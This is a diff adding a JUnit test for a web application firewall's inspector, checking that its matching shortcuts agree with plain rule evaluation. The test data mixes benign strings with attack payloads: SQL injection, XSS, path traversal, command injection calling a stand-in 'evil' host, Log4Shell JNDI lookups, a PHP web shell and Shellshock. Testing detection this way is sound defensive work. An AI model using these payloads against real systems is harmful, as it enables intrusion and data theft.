@@ -1,0 +1,67 @@
+package dev.bastion.waf;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import org.junit.jupiter.api.Test;
+
+/**
+ * The inspector's shortcuts — one literal automaton for all rules, transformations shared between chains
+ * and between equal inputs, a lower-cased value taking its input's literal hits — must never change what
+ * matches: checked against the plain reading of a rule (its chain, then its prefilter, then its operator)
+ * over attacks of every family, their encodings, and benign text, with every built-in rule of every level.
+ */
+class InspectorTest {
+    static final List<String> VALUES = List.of(
+            "1 UNION/**/SELECT password FROM users", "' or '1'='1", "O'Brien", "select your plan from the list",
+            "<script>alert(1)</script>", "<IMG SRC=JaVaScRiPt:alert(1)>", "%3Csvg%2Fonload%3Dalert(1)%3E", "<b>bold</b>",
+            "../../etc/passwd", "..%c0%af..%c0%afetc%c0%afpasswd", "%2e%2e%2f%2e%2e%2fboot.ini", "report.pdf",
+            ";cat /etc/passwd", "$(curl http://evil)", "c''at /e?c/pa??wd", "time is money", "Tom & Jerry; popcorn",
+            "${jndi:ldap://x/a}", "${${lower:j}ndi:${lower:l}dap://x}", "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
+            "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index", "java.lang.Runtime.getRuntime().exec",
+            "We would like to move our support team to the new plan next month. ".repeat(20),
+            "ＳＥＬＥＣＴ ＊ ＦＲＯＭ users", "SeLeCt%09*%0bFrOm%0cusers", "&#x3C;script&#x3E;", "\\u003cscript\\u003e", "a\u0000b",
+            "İSTANBUL union İ select", "nikto/2.1.6", "() { :; }; /bin/bash -c id");
+
+    @Test
+    void findsExactlyWhatEachRuleFindsOnItsOwn() {
+        RuleSet set = RuleSet.load(List.of());
+        for (int paranoia = 1; paranoia <= 4; paranoia++) {
+            Inspector inspector = new Inspector(set, paranoia);
+            for (String v : VALUES) {
+                for (String form : List.of(v, v.toUpperCase(java.util.Locale.ROOT))) {
+                    RequestTargets t = RequestTargets.of("GET", "/p", "q=" + java.net.URLEncoder.encode(form, java.nio.charset.StandardCharsets.UTF_8),
+                            List.of(Map.entry("User-Agent", form), Map.entry("Referer", form)), null, null, x -> Set.of());
+                    List<Integer> expected = new ArrayList<>();
+                    for (Rule r : set.rules()) {
+                        if (r.paranoia() <= paranoia && t.all().stream().anyMatch(x -> reads(r, x) && plainlyMatches(r, x.value()))) expected.add(r.id());
+                    }
+                    List<Integer> got = inspector.inspect(t, List.of()).matches().stream().map(Inspector.Match::rule).toList();
+                    assertThat(got).as("PL%d on %s", paranoia, form).containsExactlyElementsOf(expected);
+                }
+            }
+        }
+    }
+
+    @Test
+    void theScoreAddsEachMatchingRuleOnce() {
+        Inspector inspector = new Inspector(RuleSet.load(List.of()), 1);
+        RequestTargets t = RequestTargets.of("GET", "/p", "a=1%20UNION%20SELECT%201&b=1%20UNION%20SELECT%202", List.of(), null, null, x -> Set.of());
+        Inspector.Result r = inspector.inspect(t, List.of());
+        assertThat(r.matches()).extracting(Inspector.Match::rule).doesNotHaveDuplicates().contains(942100);
+        assertThat(r.score()).isEqualTo(r.matches().stream().mapToInt(m -> m.severity().score).sum());
+    }
+
+    static boolean reads(Rule r, RequestTargets.Target t) {
+        return r.targets().contains(t.kind()) || r.targets().contains(t.name());
+    }
+
+    static boolean plainlyMatches(Rule r, String value) {
+        String v = value;
+        for (Transform t : r.transforms()) v = t.apply(v);
+        return (r.requires() == null || r.requires().find(v) != null) && r.operator().matches(v);
+    }
+}
